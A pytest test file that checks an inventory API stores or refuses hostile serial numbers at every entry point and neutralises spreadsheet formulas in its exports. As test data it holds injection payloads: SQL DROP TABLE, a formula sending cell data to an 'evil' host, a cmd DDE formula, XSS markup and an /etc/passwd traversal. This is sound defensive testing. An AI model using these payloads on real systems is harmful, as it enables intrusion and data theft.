"""Serials that somebody made to break something: kept as given, or refused in a sentence."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Mapping
from typing import TYPE_CHECKING
from urllib.parse import quote

import httpx
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils.exceptions import IllegalCharacterError

if TYPE_CHECKING:
    from tests.scenarios.conftest import Person

GTIN = "09501101530003"

KEPT: Mapping[str, str] = {
    "SQL": "x'); DROP TABLE life; --",
    "a wildcard": "%_*?",
    "a formula": '=HYPERLINK("http://evil/?"&A1)',
    "a formula with a sign": "+1+cmd|' /C calc'!A0",
    "a negative formula": "-2+3",
    "a macro": "@SUM(A1:A9)",
    "markup": "<img src=x onerror=alert(1)>",
    "a path": "../../etc/passwd",
    "percent signs": "%2e%2e%00",
    "JSON": '{"a": [null]}',
    "an emoji": "\N{WRENCH}\N{EMOJI MODIFIER FITZPATRICK TYPE-4}7",
    "Hebrew": "\u05e9\u05dc\u05d5\u05dd-1",
    "a composed letter": "caf\u00e9-1",
    "as long as can be": "L" * 64,
    "a number that a spreadsheet would eat": "00012E5",
}
"""What is kept to the last character."""

CHANGED: Mapping[str, tuple[str, str]] = {
    "a letter with a combining mark": ("cafe\u0301-2", "caf\u00e9-2"),
    "a character without width": ("ZW\u200b1", "ZW1"),
    "a byte order mark": ("\ufeffBOM1", "BOM1"),
    "a no-break space": ("NB\u00a01", "NB 1"),
}
"""What looks the same is the same."""

REFUSED: Mapping[str, str] = {
    "a null": "NUL\x001",
    "a bell": "BEL\x071",
    "an escape": "ESC\x1b[2J",
    "a line break": "LF\n1",
    "a turned reading order": "TURN\u202e1",
    "an isolate": "ISO\u20661",
    "a line separator": "LS\u20281",
    "10,000 characters": "T" * 10_000,
    "one more than can be": "M" * 65,
    "half a surrogate pair": "SUR\ud8001",
}


def quoted(serial: str) -> str:
    """Return a serial as a person quotes it in a list."""
    return '"' + serial.replace('"', '""') + '"'


def send(person: Person, path: str, body: object, method: str = "POST") -> httpx.Response:
    """Send JSON in ASCII, so that half a surrogate pair gets through."""
    return person.web.request(
        method, f"/v1{path}", content=json.dumps(body), headers={"Content-Type": "application/json"}
    )


def by_action(person: Person, sku: str, serial: str) -> httpx.Response:
    return send(person, "/serials/actions", {
        "action": "receive", "item": sku, "serials": [serial], "location": "MAIN"})  # fmt: skip


def by_list(person: Person, sku: str, serial: str) -> httpx.Response:
    return send(person, "/serials/actions", {
        "action": "receive", "item": sku, "serials": quoted(serial), "location": "MAIN",
    })  # fmt: skip


def by_order(person: Person, sku: str, serial: str) -> httpx.Response:
    person.document(f"purchase_order/PO-{sku}", {"item": sku, "quantity": 100}, party="HITECH",
                    to="MAIN")  # fmt: skip
    return send(person, f"/documents/purchase_order/PO-{sku}/lines/1/serials",
                {"serials": [serial]})  # fmt: skip


def by_receipt(person: Person, sku: str, serial: str) -> httpx.Response:
    made = person.post("/documents/receipt", {
        "party": "HITECH", "to": "MAIN", "lines": [{"item": sku, "quantity": 1}]})  # fmt: skip
    return send(person, f"/documents/receipt/{made['number']}/post",
                {"lines": [{"line": 1, "serials": [{"serial": serial}]}]})  # fmt: skip


def by_rename(person: Person, sku: str, serial: str) -> httpx.Response:
    person.act("receive", "plain", sku, location="MAIN")
    answer = send(person, "/serials/actions", {
        "action": "rename", "item": sku, "serials": ["plain"], "to": serial, "reason": "misread",
    })  # fmt: skip
    if answer.is_success:
        return answer
    person.act("write_off", "plain", sku, reason="not for this test")
    return answer


def by_lot(person: Person, sku: str, serial: str) -> httpx.Response:
    lot = person.post("/lots", {"item": sku})
    return send(person, f"/lots/{lot['id']}/serials", {
        "add": [serial], "location": "MAIN", "reason": "found"})  # fmt: skip


def by_table(person: Person, sku: str, serial: str) -> httpx.Response:
    text = io.StringIO()
    csv.writer(text).writerows([("item", "location", "serial"), (sku, "MAIN", serial)])
    try:
        content = text.getvalue().encode()
    except UnicodeEncodeError:  # no text in UTF-8 can hold it
        return by_action(person, sku, serial)
    return person.web.post("/v1/imports/stock", content=content)


def by_workbook(person: Person, sku: str, serial: str) -> httpx.Response:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["item", "location", "serial"])
    try:
        sheet.append([sku, "MAIN", serial])
        sheet["C2"].data_type = "s"
        data = io.BytesIO()
        book.save(data)
    except (ValueError, IllegalCharacterError):  # no workbook can hold it
        return by_table(person, sku, serial)
    return person.web.post("/v1/imports/stock", content=data.getvalue())


def by_epcis(person: Person, sku: str, serial: str) -> httpx.Response:
    number = quote(serial.encode(errors="surrogatepass"), safe="")
    event = {
        "type": "ObjectEvent", "eventTime": "2026-01-01T12:00:00Z", "eventTimeZoneOffset": "+00:00",
        "action": "OBSERVE", "bizStep": "receiving",
        "epcList": [f"https://id.gs1.org/01/{GTIN}/21/{number}"],
    }  # fmt: skip
    document = {
        "@context": ["https://ref.gs1.org/standards/epcis/2.0.0/epcis-context.jsonld"],
        "type": "EPCISDocument", "schemaVersion": "2.0", "creationDate": "2026-01-01T00:00:00Z",
        "epcisBody": {"eventList": [event]},
    }  # fmt: skip
    return send(person, "/registry/epcis?location=MAIN", document)


ENTRIES: Mapping[str, Callable[[Person, str, str], httpx.Response]] = {
    "H-ACTION": by_action, "H-LIST": by_list, "H-ORDER": by_order, "H-RECEIPT": by_receipt,
    "H-RENAME": by_rename, "H-LOT": by_lot, "H-TABLE": by_table, "H-BOOK": by_workbook,
    "H-EPCIS": by_epcis,
}  # fmt: skip

STRICTER = {"H-EPCIS"}
"""A Digital Link carries GS1's character set 82 and 20 characters (General Specifications, 3.5.2),
so it refuses more."""


@pytest.mark.threat("T12")
@pytest.mark.parametrize("sku", ENTRIES)
def test_a_hostile_serial_is_kept_as_given_or_refused_by_every_entry(
    person: Person, sku: str
) -> None:
    person.put(f"/items/{sku}", {
        "tracking": "serial", **({"gtin": GTIN} if sku == "H-EPCIS" else {})})  # fmt: skip
    kept: list[str] = []
    wanted = {name: (serial, serial) for name, serial in KEPT.items()} | dict(CHANGED)
    for name, (given, stored) in wanted.items():
        answer = ENTRIES[sku](person, sku, given)
        if answer.is_success and _applied(answer):
            found = person.get("/serials", item=sku, serial=given, show="all")["items"]
            assert [one["serial"] for one in found][-1:] == [stored], name
            kept.append(stored)
        else:
            assert sku in STRICTER, (name, answer.text)
            assert _sentence(answer), (name, answer.text)
    for name, given in REFUSED.items():
        answer = ENTRIES[sku](person, sku, given)
        assert answer.status_code < 500, (name, answer.text)
        assert not (answer.is_success and _applied(answer)), (name, answer.text)
        assert _sentence(answer), (name, answer.text)
    page = person.get("/serials", item=sku, show="all", limit=500)["items"]
    there = sorted(one["serial"] for one in page if one["state"] not in ("cancelled",)
                   and one["serial"] != "plain")  # fmt: skip
    assert there == sorted(kept)
    _check_exports(person, sku, kept)


def _applied(answer: httpx.Response) -> bool:
    """Return whether an answer of success says that something was done."""
    body = answer.json()
    counts = body.get("counts")
    return not isinstance(counts, dict) or not counts.get("unreadable")


def _sentence(answer: httpx.Response) -> bool:
    """Return whether a refusal says in print what was wrong."""
    body = answer.json()
    detail = body.get("detail") or str(body.get("problems"))
    return len(detail) > 15 and detail.isprintable() and len(detail) < 2000


def _check_exports(person: Person, sku: str, kept: list[str]) -> None:
    """No spreadsheet takes a serial for a formula, and each comes back as it was."""
    text = person.web.get("/v1/reports/serials_by_item", params={"item": sku, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(text.content.decode("utf-8-sig"), newline="")))
    cells = [row["serial"] for row in rows if row["state"] != "cancelled"]
    assert [cell for cell in cells if cell[:1] in "=+-@\t\r"] == []
    plain = [cell[1:] if cell[:2] in ("'=", "'+", "'-", "'@") else cell for cell in cells]
    assert sorted(one for one in plain if one != "plain") == sorted(kept)
    book = person.web.get("/v1/reports/serials_by_item", params={"item": sku, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(book.content)).active
    assert sheet is not None
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr",
                                                                           "d", "b"}  # fmt: skip
    told = json.loads(person.web.get("/v1/reports/serials_by_item",
                                     params={"item": sku, "format": "json"}).content)  # fmt: skip
    listed = [row["serial"] for row in told if row["state"] != "cancelled"]
    assert sorted(one for one in listed if one != "plain") == sorted(kept)
